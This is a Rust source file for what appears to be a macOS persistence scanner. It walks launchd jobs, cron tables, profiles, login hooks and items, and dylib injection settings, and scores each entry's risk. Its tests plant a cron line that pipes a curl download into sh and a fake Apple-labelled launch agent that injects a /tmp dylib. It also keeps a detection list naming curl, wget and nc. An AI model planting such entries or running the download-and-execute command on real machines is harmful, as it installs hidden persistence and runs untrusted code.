@@ -0,0 +1,493 @@
+//! Auto-start extension points: walk the persistence locations of a macOS volume
+//! (launchd jobs, cron, periodic, configuration profiles, audit and login hooks,
+//! login items, DYLD_INSERT_LIBRARIES in plists) and report one finding per entry with
+//! a risk score. /System is skipped: it is on the sealed, SIP-protected system volume.
+
+use crate::ffi::{alloc_array, free_array, free_c_string_array, free_cstr, to_cstr, vec_to_c_string_array, IrisCStringArray};
+use crate::bookmark;
+use crate::loginitems;
+use crate::plist::{self, Plist};
+use crate::tcc::user_writable;
+use std::ffi::{c_char, CStr};
+use std::path::{Path, PathBuf};
+
+const MAX_FILE_SIZE: u64 = 16 << 20;
+const MAX_DEPTH: usize = 32;
+
+pub const ASEP_KIND_LAUNCH_AGENT: u8 = 1;
+pub const ASEP_KIND_LAUNCH_DAEMON: u8 = 2;
+pub const ASEP_KIND_CRON: u8 = 3;
+pub const ASEP_KIND_PERIODIC: u8 = 4;
+pub const ASEP_KIND_PROFILE: u8 = 5;
+pub const ASEP_KIND_AUDIT_HOOK: u8 = 6;
+pub const ASEP_KIND_LOGIN_HOOK: u8 = 7;
+pub const ASEP_KIND_LOGIN_ITEM: u8 = 8;
+pub const ASEP_KIND_STARTUP_ITEM: u8 = 9;
+pub const ASEP_KIND_DYLIB_INSERT: u8 = 10;
+
+pub const ASEP_FLAG_RUN_AT_LOAD: u32 = 0x001;      // launchd RunAtLoad
+pub const ASEP_FLAG_KEEP_ALIVE: u32 = 0x002;       // launchd KeepAlive
+pub const ASEP_FLAG_DYLD_INSERT: u32 = 0x004;      // sets DYLD_INSERT_LIBRARIES
+pub const ASEP_FLAG_WRITABLE_PATH: u32 = 0x008;    // program in a temp or user-writable location
+pub const ASEP_FLAG_HIDDEN: u32 = 0x010;           // dot-file program or label
+pub const ASEP_FLAG_INTERPRETER: u32 = 0x020;      // shell/script interpreter running inline code
+pub const ASEP_FLAG_NETWORK: u32 = 0x040;          // command line fetches from the network
+pub const ASEP_FLAG_MISSING_PROGRAM: u32 = 0x080;  // program does not exist on the volume
+pub const ASEP_FLAG_UNPARSEABLE: u32 = 0x100;      // plist could not be parsed
+pub const ASEP_FLAG_APPLE_LABEL: u32 = 0x200;      // com.apple.* label outside /System
+pub const ASEP_FLAG_ROOT_CA: u32 = 0x400;          // profile installs a root certificate
+
+const FLAG_WEIGHTS: &[(u32, u8)] = &[
+    (ASEP_FLAG_RUN_AT_LOAD, 5),
+    (ASEP_FLAG_KEEP_ALIVE, 5),
+    (ASEP_FLAG_DYLD_INSERT, 40),
+    (ASEP_FLAG_WRITABLE_PATH, 25),
+    (ASEP_FLAG_HIDDEN, 20),
+    (ASEP_FLAG_INTERPRETER, 10),
+    (ASEP_FLAG_NETWORK, 20),
+    (ASEP_FLAG_MISSING_PROGRAM, 10),
+    (ASEP_FLAG_UNPARSEABLE, 10),
+    (ASEP_FLAG_APPLE_LABEL, 25),
+    (ASEP_FLAG_ROOT_CA, 30),
+];
+
+const INTERPRETERS: &[&str] = &["sh", "bash", "zsh", "python", "python3", "perl", "ruby", "osascript", "node"];
+const NETWORK_TOOLS: &[&str] = &["curl", "wget", "nc", "ncat", "http://", "https://"];
+
+#[repr(C)]
+pub struct IrisAsepFinding {
+    pub kind: u8,                    // ASEP_KIND_*
+    pub path: *mut c_char,           // file the entry came from, absolute within the volume
+    pub label: *mut c_char,          // launchd Label, crontab owner, profile identifier, ...
+    pub program: *mut c_char,        // executable path; command line (cron), display name (profile)
+    pub arguments: IrisCStringArray, // argv after the program; payload types (profile)
+    pub user: *mut c_char,           // owning user for per-user locations, "" otherwise
+    pub enabled: bool,
+    pub flags: u32,                  // ASEP_FLAG_*
+    pub risk: u8,                    // 0-100
+}
+
+#[repr(C)]
+pub struct IrisAsepFindings {
+    pub findings: *mut IrisAsepFinding,
+    pub count: usize,
+}
+
+struct Finding {
+    kind: u8,
+    path: String,
+    label: String,
+    program: String,
+    arguments: Vec<String>,
+    user: String,
+    enabled: bool,
+    flags: u32,
+}
+
+fn base_risk(kind: u8) -> u8 {
+    match kind {
+        ASEP_KIND_DYLIB_INSERT => 50,
+        ASEP_KIND_LOGIN_HOOK => 40,
+        ASEP_KIND_STARTUP_ITEM => 30,
+        ASEP_KIND_CRON => 25,
+        ASEP_KIND_LAUNCH_DAEMON => 15,
+        ASEP_KIND_AUDIT_HOOK => 5,
+        _ => 10,
+    }
+}
+
+fn risk(f: &Finding) -> u8 {
+    let r = FLAG_WEIGHTS.iter().filter(|(bit, _)| f.flags & bit != 0).fold(base_risk(f.kind) as u32, |r, (_, w)| r + *w as u32);
+    let r = if f.enabled { r } else { r / 2 };
+    r.min(100) as u8
+}
+
+struct Scan<'a> {
+    root: &'a Path,
+    findings: Vec<Finding>,
+}
+
+impl Scan<'_> {
+    fn on_volume(&self, abs: &str) -> PathBuf {
+        self.root.join(abs.trim_start_matches('/'))
+    }
+
+    fn read(&self, path: &Path) -> Option<Vec<u8>> {
+        let meta = std::fs::metadata(path).ok()?;
+        if !meta.is_file() || meta.len() > MAX_FILE_SIZE { return None; }
+        std::fs::read(path).ok()
+    }
+
+    /// Regular files in a volume directory, sorted, as (absolute volume path, file name).
+    fn files(&self, dir: &str) -> Vec<(String, String)> {
+        let Ok(rd) = std::fs::read_dir(self.on_volume(dir)) else { return Vec::new() };
+        let mut v: Vec<_> = rd.flatten().filter(|e| e.file_type().is_ok_and(|t| t.is_file()))
+            .filter_map(|e| e.file_name().into_string().ok())
+            .map(|n| (format!("{}/{}", dir.trim_end_matches('/'), n), n)).collect();
+        v.sort();
+        v
+    }
+
+    /// Non-hidden subdirectories of a volume directory, sorted.
+    fn subdirs(&self, dir: &str) -> Vec<String> {
+        let Ok(rd) = std::fs::read_dir(self.on_volume(dir)) else { return Vec::new() };
+        let mut v: Vec<_> = rd.flatten().filter(|e| e.file_type().is_ok_and(|t| t.is_dir()))
+            .filter_map(|e| e.file_name().into_string().ok()).filter(|n| !n.starts_with('.')).collect();
+        v.sort();
+        v
+    }
+
+    /// Flags derived from what runs; shared by every kind.
+    fn program_flags(&self, f: &Finding) -> u32 {
+        // Cron entries are whole command lines; everything else names a file
+        let exe = if f.kind == ASEP_KIND_CRON { f.program.split_whitespace().next().unwrap_or("") } else { &f.program };
+        let mut flags = 0;
+        if exe.starts_with('/') {
+            if user_writable(exe) { flags |= ASEP_FLAG_WRITABLE_PATH; }
+            if exe.split('/').any(|c| c.starts_with('.') && c.len() > 1 && c != "..") { flags |= ASEP_FLAG_HIDDEN; }
+            if !self.on_volume(exe).exists() { flags |= ASEP_FLAG_MISSING_PROGRAM; }
+        }
+        let words: Vec<&str> = f.program.split_whitespace().chain(f.arguments.iter().flat_map(|a| a.split_whitespace())).collect();
+        let name = |w: &str| w.rsplit('/').next().unwrap_or(w).to_string();
+        if words.iter().any(|w| INTERPRETERS.contains(&name(w).as_str())) && words.iter().any(|w| *w == "-c" || *w == "-e") {
+            flags |= ASEP_FLAG_INTERPRETER;
+        }
+        if words.iter().any(|w| NETWORK_TOOLS.iter().any(|t| name(w) == *t || (t.contains(':') && w.contains(t)))) {
+            flags |= ASEP_FLAG_NETWORK;
+        }
+        flags
+    }
+
+    fn push(&mut self, kind: u8, path: &str, label: &str, program: &str, user: &str, flags: u32) -> &mut Finding {
+        self.findings.push(Finding {
+            kind, path: path.to_string(), label: label.to_string(), program: program.to_string(), arguments: Vec::new(),
+            user: user.to_string(), enabled: true, flags,
+        });
+        self.findings.last_mut().unwrap()
+    }
+
+    fn launchd(&mut self, dir: &str, kind: u8, user: &str) {
+        for (path, name) in self.files(dir) {
+            let Some(p) = self.read(&self.on_volume(&path)).and_then(|d| plist::parse(&d)) else {
+                self.push(kind, &path, name.trim_end_matches(".plist"), "", user, ASEP_FLAG_UNPARSEABLE);
+                continue;
+            };
+            let label = p.get("Label").and_then(Plist::as_str).unwrap_or("");
+            let mut argv: Vec<String> = p.get("ProgramArguments").and_then(Plist::as_array).unwrap_or(&[])
+                .iter().filter_map(Plist::as_str).map(str::to_string).collect();
+            let program = match p.get("Program").and_then(Plist::as_str) {
+                Some(prog) => {
+                    if !argv.is_empty() { argv.remove(0); }
+                    prog.to_string()
+                }
+                None if !argv.is_empty() => argv.remove(0),
+                None => String::new(),
+            };
+            let mut flags = 0;
+            if p.get("RunAtLoad").and_then(Plist::as_bool) == Some(true) { flags |= ASEP_FLAG_RUN_AT_LOAD; }
+            if p.get("KeepAlive").is_some_and(|k| k.as_bool() != Some(false)) { flags |= ASEP_FLAG_KEEP_ALIVE; }
+            if p.get("EnvironmentVariables").and_then(|e| e.get("DYLD_INSERT_LIBRARIES")).is_some() { flags |= ASEP_FLAG_DYLD_INSERT; }
+            if label.starts_with('.') { flags |= ASEP_FLAG_HIDDEN; }
+            if label.starts_with("com.apple.") { flags |= ASEP_FLAG_APPLE_LABEL; }
+            let enabled = p.get("Disabled").and_then(Plist::as_bool) != Some(true);
+            let f = self.push(kind, &path, label, &program, user, flags);
+            f.arguments = argv;
+            f.enabled = enabled;
+        }
+    }
+
+    /// crontab(5) lines; `system` tables carry a user field before the command.
+    fn cron(&mut self, path: &str, owner: &str, system: bool) {
+        let Some(data) = self.read(&self.on_volume(path)) else { return };
+        for line in String::from_utf8_lossy(&data).lines().map(str::trim) {
+            if line.is_empty() || line.starts_with('#') { continue; }
+            let first = line.split_whitespace().next().unwrap_or("");
+            if first.contains('=') { continue; } // environment assignment
+            let skip = if first.starts_with('@') { 1 } else { 5 } + system as usize;
+            let mut rest = line;
+            let mut user = owner;
+            for i in 0..skip {
+                let t = rest.trim_start();
+                let end = t.find(char::is_whitespace).unwrap_or(t.len());
+                if system && i == skip - 1 { user = &t[..end]; }
+                rest = &t[end..];
+            }
+            let command = rest.trim();
+            if command.is_empty() { continue; }
+            self.push(ASEP_KIND_CRON, path, first, command, user, 0);
+        }
+    }
+
+    fn scripts(&mut self, dir: &str, kind: u8) {
+        for (path, name) in self.files(dir) {
+            let flags = if name.starts_with('.') { ASEP_FLAG_HIDDEN } else { 0 };
+            self.push(kind, &path, &name, &path, "", flags);
+        }
+    }
+
+    fn profiles(&mut self, dir: &str) {
+        for (path, _) in self.files(dir) {
+            let Some(p) = self.read(&self.on_volume(&path)).and_then(|d| plist::parse(&d)) else { continue };
+            let mut found = Vec::new();
+            profile_dicts(&p, &mut found, 0);
+            for prof in found {
+                let ident = prof.get("ProfileIdentifier").and_then(Plist::as_str).unwrap_or("");
+                let mut types = Vec::new();
+                payload_types(prof, &mut types, 0);
+                let flags = if types.iter().any(|t| t == "com.apple.security.root") { ASEP_FLAG_ROOT_CA } else { 0 };
+                let name = prof.get("ProfileDisplayName").and_then(Plist::as_str).unwrap_or("");
+                self.push(ASEP_KIND_PROFILE, &path, ident, name, "", flags).arguments = types;
+            }
+        }
+    }
+
+    fn login_hooks(&mut self, path: &str, user: &str) {
+        let Some(p) = self.read(&self.on_volume(path)).and_then(|d| plist::parse(&d)) else { return };
+        for key in ["LoginHook", "LogoutHook"] {
+            if let Some(hook) = p.get(key).and_then(Plist::as_str) {
+                self.push(ASEP_KIND_LOGIN_HOOK, path, key, hook, user, 0);
+            }
+        }
+    }
+
+    fn login_items(&mut self, path: &str, user: &str) {
+        let Some(items) = self.read(&self.on_volume(path)).and_then(|d| loginitems::parse(&d)) else { return };
+        let s = |p: *mut c_char| unsafe { CStr::from_ptr(p) }.to_string_lossy().into_owned();
+        for i in &items {
+            let bookmark = unsafe { std::slice::from_raw_parts(i.bookmark, i.bookmark_len) };
+            let target = [s(i.executable_path), s(i.url).strip_prefix("file://").map(str::to_string).unwrap_or_default()]
+                .into_iter().find(|t| !t.is_empty())
+                .or_else(|| bookmark::parse(bookmark).map(|b| b.path))
+                .unwrap_or_default();
+            let owner = if user.is_empty() { s(i.user) } else { user.to_string() };
+            let label = [s(i.identifier), s(i.bundle_id), s(i.name)].into_iter().find(|l| !l.is_empty()).unwrap_or_default();
+            self.push(ASEP_KIND_LOGIN_ITEM, path, &label, &target, &owner, 0).enabled = i.enabled;
+            loginitems::free_item(i);
+        }
+    }
+
+    /// DYLD_INSERT_LIBRARIES in an app's LSEnvironment.
+    fn app_environments(&mut self, dir: &str) {
+        for app in self.subdirs(dir).into_iter().filter(|n| n.ends_with(".app")) {
+            let path = format!("{}/{}/Contents/Info.plist", dir, app);
+            let Some(p) = self.read(&self.on_volume(&path)).and_then(|d| plist::parse(&d)) else { continue };
+            let Some(libs) = p.get("LSEnvironment").and_then(|e| e.get("DYLD_INSERT_LIBRARIES")).and_then(Plist::as_str) else { continue };
+            let label = p.get("CFBundleIdentifier").and_then(Plist::as_str).unwrap_or(&app);
+            let libs: Vec<String> = libs.split(':').filter(|l| !l.is_empty()).map(str::to_string).collect();
+            let program = format!("{}/{}", dir, app);
+            self.push(ASEP_KIND_DYLIB_INSERT, &path, label, &program, "", ASEP_FLAG_DYLD_INSERT).arguments = libs;
+        }
+    }
+
+    fn run(&mut self) {
+        self.launchd("/Library/LaunchAgents", ASEP_KIND_LAUNCH_AGENT, "");
+        self.launchd("/Library/LaunchDaemons", ASEP_KIND_LAUNCH_DAEMON, "");
+        for (path, user) in self.files("/private/var/at/tabs").into_iter().chain(self.files("/usr/lib/cron/tabs")) {
+            self.cron(&path, &user, false);
+        }
+        self.cron("/etc/crontab", "", true);
+        for period in ["daily", "weekly", "monthly"] {
+            self.scripts(&format!("/etc/periodic/{}", period), ASEP_KIND_PERIODIC);
+            self.scripts(&format!("/usr/local/etc/periodic/{}", period), ASEP_KIND_PERIODIC);
+        }
+        self.profiles("/private/var/db/ConfigurationProfiles/Store");
+        if self.on_volume("/etc/security/audit_warn").is_file() {
+            self.push(ASEP_KIND_AUDIT_HOOK, "/etc/security/audit_warn", "audit_warn", "/etc/security/audit_warn", "", 0);
+        }
+        self.login_hooks("/Library/Preferences/com.apple.loginwindow.plist", "");
+        for item in self.subdirs("/Library/StartupItems") {
+            let program = format!("/Library/StartupItems/{}/{}", item, item);
+            self.push(ASEP_KIND_STARTUP_ITEM, &format!("/Library/StartupItems/{}", item), &item, &program, "", 0);
+        }
+        for (path, _) in self.files("/private/var/db/com.apple.backgroundtaskmanagement") {
+            if path.ends_with(".btm") { self.login_items(&path, ""); }
+        }
+        self.app_environments("/Applications");
+        for user in self.subdirs("/Users") {
+            let home = format!("/Users/{}", user);
+            self.launchd(&format!("{}/Library/LaunchAgents", home), ASEP_KIND_LAUNCH_AGENT, &user);
+            self.login_hooks(&format!("{}/Library/Preferences/com.apple.loginwindow.plist", home), &user);
+            self.login_items(&format!("{}/Library/Application Support/com.apple.backgroundtaskmanagementagent/backgrounditems.btm", home), &user);
+            self.login_items(&format!("{}/Library/Preferences/com.apple.loginitems.plist", home), &user);
+            self.app_environments(&format!("{}/Applications", home));
+        }
+        let flags: Vec<u32> = self.findings.iter().map(|f| self.program_flags(f)).collect();
+        for (f, extra) in self.findings.iter_mut().zip(flags) { f.flags |= extra; }
+    }
+}
+
+fn profile_dicts<'a>(p: &'a Plist, out: &mut Vec<&'a Plist>, depth: usize) {
+    if depth > MAX_DEPTH { return; }
+    match p {
+        Plist::Dict(_) if p.get("ProfileIdentifier").is_some() => out.push(p),
+        Plist::Dict(d) => d.iter().for_each(|(_, v)| profile_dicts(v, out, depth + 1)),
+        Plist::Array(a) => a.iter().for_each(|v| profile_dicts(v, out, depth + 1)),
+        _ => {}
+    }
+}
+
+fn payload_types(p: &Plist, out: &mut Vec<String>, depth: usize) {
+    if depth > MAX_DEPTH { return; }
+    match p {
+        Plist::Dict(d) => {
+            if let Some(t) = p.get("PayloadType").and_then(Plist::as_str) {
+                if !out.iter().any(|x| x == t) { out.push(t.to_string()); }
+            }
+            d.iter().for_each(|(_, v)| payload_types(v, out, depth + 1));
+        }
+        Plist::Array(a) => a.iter().for_each(|v| payload_types(v, out, depth + 1)),
+        _ => {}
+    }
+}
+
+// --- FFI entry points ---
+
+/// Enumerate auto-start entries on the volume mounted at `root` ("/" for the live
+/// system), sorted by descending risk. Returns 0=ok, -1=root unreadable, -2=arg error.
+/// Free with iris_asep_free.
+#[no_mangle]
+pub extern "C" fn iris_asep_scan(root: *const c_char, out: *mut IrisAsepFindings) -> i32 {
+    if root.is_null() || out.is_null() { return -2; }
+    let Ok(root) = unsafe { CStr::from_ptr(root) }.to_str() else { return -2 };
+    let root = Path::new(root);
+    if !root.is_dir() { return -1; }
+    let mut scan = Scan { root, findings: Vec::new() };
+    scan.run();
+    let mut findings: Vec<_> = scan.findings.into_iter().map(|f| (risk(&f), f)).collect();
+    findings.sort_by_key(|f| std::cmp::Reverse(f.0));
+    let findings: Vec<_> = findings.into_iter().map(|(risk, f)| IrisAsepFinding {
+        kind: f.kind,
+        path: to_cstr(&f.path),
+        label: to_cstr(&f.label),
+        program: to_cstr(&f.program),
+        arguments: vec_to_c_string_array(f.arguments),
+        user: to_cstr(&f.user),
+        enabled: f.enabled,
+        flags: f.flags,
+        risk,
+    }).collect();
+    let (findings, count) = alloc_array(findings);
+    unsafe { out.write(IrisAsepFindings { findings, count }); }
+    0
+}
+
+#[no_mangle]
+pub extern "C" fn iris_asep_free(findings: *mut IrisAsepFindings) {
+    if findings.is_null() { return; }
+    let f = unsafe { &*findings };
+    for i in 0..f.count {
+        let e = unsafe { &*f.findings.add(i) };
+        for p in [e.path, e.label, e.program, e.user] { free_cstr(p); }
+        free_c_string_array(&e.arguments);
+    }
+    free_array(f.findings, f.count);
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn s(p: *mut c_char) -> String {
+        unsafe { CStr::from_ptr(p) }.to_string_lossy().into_owned()
+    }
+
+    fn write(root: &Path, path: &str, data: &str) {
+        let p = root.join(path.trim_start_matches('/'));
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(p, data).unwrap();
+    }
+
+    #[test]
+    fn scan_volume() {
+        let root = std::env::temp_dir().join(format!("iris-asep-{}", std::process::id()));
+        write(&root, "/Library/LaunchDaemons/com.example.helper.plist", r#"<plist version="1.0"><dict>
+<key>Label</key><string>com.example.helper</string>
+<key>ProgramArguments</key><array><string>/Library/Example/helper</string><string>--daemon</string></array>
+<key>RunAtLoad</key><true/></dict></plist>"#);
+        write(&root, "/Library/Example/helper", "");
+        write(&root, "/Users/alice/Library/LaunchAgents/com.apple.updater.plist", r#"<plist version="1.0"><dict>
+<key>Label</key><string>com.apple.updater</string><key>Program</key><string>/Users/Shared/.u/run</string>
+<key>KeepAlive</key><true/><key>EnvironmentVariables</key><dict><key>DYLD_INSERT_LIBRARIES</key><string>/tmp/x.dylib</string></dict>
+</dict></plist>"#);
+        write(&root, "/Users/alice/Library/LaunchAgents/broken.plist", "not a plist");
+        write(&root, "/private/var/at/tabs/alice", "SHELL=/bin/sh\n# comment\n*/5 * * * * curl -s http://example.com/x | sh\n@reboot /usr/local/bin/tool\n");
+        write(&root, "/etc/crontab", "0 3 * * * root /usr/libexec/cleanup\n");
+        write(&root, "/etc/periodic/daily/110.clean-tmps", "#!/bin/sh\n");
+        write(&root, "/Library/Preferences/com.apple.loginwindow.plist", r#"<plist version="1.0"><dict><key>LoginHook</key><string>/Library/hook.sh</string></dict></plist>"#);
+        write(&root, "/Applications/Foo.app/Contents/Info.plist", r#"<plist version="1.0"><dict><key>CFBundleIdentifier</key><string>com.foo</string>
+<key>LSEnvironment</key><dict><key>DYLD_INSERT_LIBRARIES</key><string>/Library/a.dylib:/Library/b.dylib</string></dict></dict></plist>"#);
+
+        let path = std::ffi::CString::new(root.to_str().unwrap()).unwrap();
+        let mut out = std::mem::MaybeUninit::<IrisAsepFindings>::uninit();
+        assert_eq!(iris_asep_scan(path.as_ptr(), out.as_mut_ptr()), 0);
+        let mut f = unsafe { out.assume_init() };
+        let all: Vec<&IrisAsepFinding> = (0..f.count).map(|i| unsafe { &*f.findings.add(i) }).collect();
+        assert_eq!(all.len(), 9);
+        assert!(all.windows(2).all(|w| w[0].risk >= w[1].risk));
+        let find = |label: &str| *all.iter().find(|e| s(e.label) == label).unwrap();
+
+        let agent = find("com.apple.updater");
+        assert_eq!((agent.kind, s(agent.user), agent.risk), (ASEP_KIND_LAUNCH_AGENT, "alice".into(), 100));
+        let want = ASEP_FLAG_KEEP_ALIVE | ASEP_FLAG_DYLD_INSERT | ASEP_FLAG_WRITABLE_PATH | ASEP_FLAG_HIDDEN | ASEP_FLAG_MISSING_PROGRAM | ASEP_FLAG_APPLE_LABEL;
+        assert_eq!(agent.flags, want);
+        let daemon = find("com.example.helper");
+        assert_eq!((daemon.kind, daemon.flags, daemon.risk, daemon.arguments.count), (ASEP_KIND_LAUNCH_DAEMON, ASEP_FLAG_RUN_AT_LOAD, 20, 1));
+        assert_eq!(find("broken").flags, ASEP_FLAG_UNPARSEABLE);
+
+        let curl = find("*/5");
+        assert_eq!((curl.kind, s(curl.user), curl.flags), (ASEP_KIND_CRON, "alice".into(), ASEP_FLAG_NETWORK));
+        assert_eq!(s(curl.program), "curl -s http://example.com/x | sh");
+        assert_eq!(find("@reboot").flags, ASEP_FLAG_MISSING_PROGRAM);
+        assert_eq!((s(find("0").user), s(find("0").program)), ("root".into(), "/usr/libexec/cleanup".into()));
+        assert_eq!(find("110.clean-tmps").kind, ASEP_KIND_PERIODIC);
+        assert_eq!(s(find("LoginHook").program), "/Library/hook.sh");
+        let dylib = find("com.foo");
+        assert_eq!((dylib.kind, dylib.arguments.count, s(dylib.path)), (ASEP_KIND_DYLIB_INSERT, 2, "/Applications/Foo.app/Contents/Info.plist".into()));
+
+        iris_asep_free(&mut f);
+        std::fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn truncated_and_malformed_entries() {
+        let root = std::env::temp_dir().join(format!("iris-asep-bad-{}", std::process::id()));
+        write(&root, "/Library/LaunchAgents/cut.plist", r#"<plist version="1.0"><dict><key>Label</key><string>com.cut"#);
+        write(&root, "/Library/LaunchAgents/bplist.plist", "bplist00\u{8}");
+        write(&root, "/Library/LaunchAgents/types.plist", r#"<plist version="1.0"><dict>
+<key>Label</key><integer>7</integer><key>ProgramArguments</key><array><integer>1</integer><string>/bin/ls</string><dict/></array>
+<key>Disabled</key><string>yes</string><key>RunAtLoad</key><string>true</string></dict></plist>"#);
+        write(&root, "/private/var/at/tabs/bob", "*/5 * *
+@reboot
+   
+* * * * *
+");
+        write(&root, "/etc/crontab", "0 3 * * * root
+");
+        write(&root, "/Library/Preferences/com.apple.loginwindow.plist", r#"<plist version="1.0"><dict><key>LoginHook</key><string>/x"#);
+        write(&root, "/Users/bob/Library/Preferences/com.apple.loginitems.plist", "bplist00");
+
+        let path = std::ffi::CString::new(root.to_str().unwrap()).unwrap();
+        let mut out = std::mem::MaybeUninit::<IrisAsepFindings>::uninit();
+        assert_eq!(iris_asep_scan(path.as_ptr(), out.as_mut_ptr()), 0);
+        let mut f = unsafe { out.assume_init_read() };
+        let all: Vec<&IrisAsepFinding> = (0..f.count).map(|i| unsafe { &*f.findings.add(i) }).collect();
+        // Only the three launchd plists; the short cron lines and hook files yield nothing
+        assert_eq!(all.len(), 3);
+        let find = |path: &str| *all.iter().find(|e| s(e.path).ends_with(path)).unwrap();
+        assert_eq!((s(find("cut.plist").label), find("cut.plist").flags), ("cut".into(), ASEP_FLAG_UNPARSEABLE));
+        assert_eq!(find("bplist.plist").flags, ASEP_FLAG_UNPARSEABLE);
+        let t = find("types.plist");
+        assert_eq!((s(t.label), s(t.program), t.arguments.count), (String::new(), "/bin/ls".into(), 0));
+        assert!(t.enabled && t.flags & ASEP_FLAG_RUN_AT_LOAD == 0);
+        iris_asep_free(&mut f);
+
+        // Root that is missing or not a directory, and bad arguments
+        let file = std::ffi::CString::new(root.join("etc/crontab").to_str().unwrap()).unwrap();
+        assert_eq!(iris_asep_scan(file.as_ptr(), out.as_mut_ptr()), -1);
+        std::fs::remove_dir_all(&root).unwrap();
+        assert_eq!(iris_asep_scan(path.as_ptr(), out.as_mut_ptr()), -1);
+        assert_eq!(iris_asep_scan(std::ptr::null(), out.as_mut_ptr()), -2);
+        assert_eq!(iris_asep_scan(path.as_ptr(), std::ptr::null_mut()), -2);
+        assert_eq!(iris_asep_scan(c"/\xff".as_ptr(), out.as_mut_ptr()), -2);
+    }
+}